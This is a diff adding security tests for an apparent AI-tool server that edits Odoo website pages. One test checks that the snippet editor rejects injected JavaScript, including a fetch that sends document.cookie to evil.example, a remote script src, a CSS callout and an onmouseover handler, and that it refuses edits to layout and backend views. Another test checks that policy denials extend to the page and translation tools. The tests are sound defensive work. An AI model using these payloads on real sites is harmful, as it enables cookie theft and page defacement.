@@ -181,3 +181,85 @@ async def test_translated_markup_is_judged_whole_whatever_its_shape(double, tmp_
     assert not fine.is_error, fine.text
     stored = record["__translations__"]["website_description"]
     assert stored.get("bg_BG") == before.get("bg_BG") and "alert" not in str(stored)
+
+
+def view_id(double: OdooDouble, key: str | bool) -> int:
+    return next(r["id"] for r in double.database.models["ir.ui.view"].records.values() if r["key"] == key)
+
+
+async def test_snippet_edits_never_write_javascript_nor_leave_website_pages(double, tmp_path):
+    """A text substitution replaced a `<script>`'s text; `@src` was checked as an image's, so a `<script src>` to
+    another host passed; and any view could be edited (`web.layout`, backend forms), not only website pages."""
+    product = double.database.models["product.template"].records[1]
+    product["website_description"] = ('<section class="s_text_block" data-snippet="s_text_block"><p>Oak</p>'
+                                      '<script>var shop = 1;</script><style>p {color: red}</style></section>')
+    views = double.database.models["ir.ui.view"].records
+    layout, form, home = view_id(double, "web.layout"), view_id(double, False), view_id(double, "website.homepage")
+    before = {key: dict(record) for key, record in views.items()}
+    field = {"model": "product.template", "res_id": 1, "field_name": "website_description", "snippet_xpath": "/section"}
+    script, style = "fetch('//evil.example/'+document.cookie)", "body{background:url(//evil.example)}"
+    hostile = [
+        ("odoo_website_update_snippet", {**field, "substitutions": {".//script": script}}),
+        ("odoo_website_update_snippet", {**field, "substitutions": {".//style": style}}),
+        ("odoo_website_update_snippet", {**field, "substitutions": {".//script/@src": "https://evil.example/x.js"}}),
+        ("odoo_website_update_snippet", {**field, "substitutions": {".//p/@src": "https://evil.example/x.js"}}),
+        ("odoo_website_update_snippet", {**field, "substitutions": {"@onmouseover": "alert(1)"}}),
+        ("odoo_website_update_snippet", {"model": "ir.ui.view", "res_id": layout, "field_name": "arch_db",
+                                         "snippet_xpath": "/t/html/head", "substitutions": {".": "alert(1)"}}),
+        ("odoo_website_update_snippet", {"model": "ir.ui.view", "res_id": layout, "field_name": "arch_db",
+                                         "snippet_xpath": "/t/html/body", "substitutions": {"@class": "x"}}),
+        ("odoo_website_remove_snippet", {"model": "ir.ui.view", "res_id": form, "field_name": "arch_db",
+                                         "snippet_xpath": "/form/sheet"}),
+        ("odoo_website_update_snippet", {"model": "ir.ui.view", "res_id": home, "field_name": "name",
+                                         "snippet_xpath": "/x", "substitutions": {".": "x"}}),
+    ]
+    description = product["website_description"]
+    async with guarded_server(ALLOW_ALL, tmp_path=tmp_path, env=server_env(double, tmp_path)) as server:
+        answers = [await server.call(tool, args) for tool, args in hostile]
+        page = await server.call("odoo_website_update_snippet", {
+            "model": "ir.ui.view", "res_id": home, "field_name": "arch_db", "snippet_xpath": "/t/t/div/section",
+            "substitutions": {".//p": "Open every day", "@data-name": "Opening hours"}})
+        text = await server.call("odoo_website_update_snippet", {**field, "substitutions": {".//p": "Solid oak"}})
+    for (tool, args), answer in zip(hostile, answers, strict=True):
+        assert answer.is_error and answer.tag in ("INVALID ARGUMENTS", "TOOL ERROR", "POLICY DENIED"), (
+            tool, args, answer.text)
+    assert not page.is_error and not text.is_error, (page.text, text.text)
+    assert {key: record for key, record in views.items() if key != home} == {k: v for k, v in before.items()
+                                                                            if k != home}
+    assert "Open every day" in views[home]["arch_db"]
+    assert product["website_description"] == description.replace("<p>Oak</p>", "<p>Solid oak</p>")
+
+
+async def test_page_and_translation_writes_obey_odoo_writes_rule(double, tmp_path):
+    """One action, one rule: `odoo_write` denied `ir.ui.view` and `product.template`, and the snippet and
+    translation tools wrote them anyway."""
+    policy = {"version": "1", "default": "allow", "tools": {"odoo_write": {"deny_if": [
+        {"arg": "model", "op": "in", "value": ["ir.ui.view", "product.template"]}]}}}
+    home = view_id(double, "website.homepage")
+    views = double.database.models["ir.ui.view"].records
+    product = double.database.models["product.template"].records[1]
+    arch, translations = views[home]["arch_db"], repr(product["__translations__"])
+    page = {"model": "ir.ui.view", "res_id": home, "field_name": "arch_db"}
+    writes = [
+        ("odoo_website_update_snippet", {**page, "snippet_xpath": "/t/t/div/section", "substitutions": {".//p": "x"}}),
+        ("odoo_website_remove_snippet", {**page, "snippet_xpath": "/t/t/div/section"}),
+        ("odoo_website_add_snippet", {**page, "snippet_key": "website.s_text_block"}),
+        ("odoo_translate_html", {**page, "res_id": home, "translations": {"fr_FR": {"Welcome": "Bienvenue"}}}),
+        ("odoo_translate_field", {"model": "product.template", "res_id": 1, "field_name": "name",
+                                  "translations": {"fr_FR": "Table"}}),
+        ("odoo_translate_html", {"model": "product.template", "res_id": 1, "field_name": "website_description",
+                                 "mode": "replace", "translations": {"bg_BG": "<p>Бюро</p>"}}),
+        ("odoo_write", {"model": "product.template", "ids": [1], "values": {"name": "Table"}}),
+    ]
+    async with guarded_server(policy, tmp_path=tmp_path, env=server_env(double, tmp_path)) as server:
+        answers = [await server.call(tool, args) for tool, args in writes]
+        dry = await server.call("odoo_website_update_snippet", {**page, "snippet_xpath": "/t/t/div/section",
+                                                                "substitutions": {".//p": "x"}, "dry_run": True})
+        records = server.audit_records()
+    for (tool, _), answer in zip(writes, answers, strict=True):
+        assert answer.tag == "POLICY DENIED" and "odoo_write" in answer.text, (tool, answer.text)
+    assert not dry.is_error, dry.text  # a dry run writes nothing: odoo_write's rule is not its rule
+    assert views[home]["arch_db"] == arch and repr(product["__translations__"]) == translations
+    denied = [r for r in records if r["outcome"] == "denied" and r["tool"] != "odoo_write"]
+    assert {r["tool"] for r in denied} == {tool for tool, _ in writes[:-1]}
+    assert all(r.get("equivalent_of") == ["odoo_write"] for r in denied)
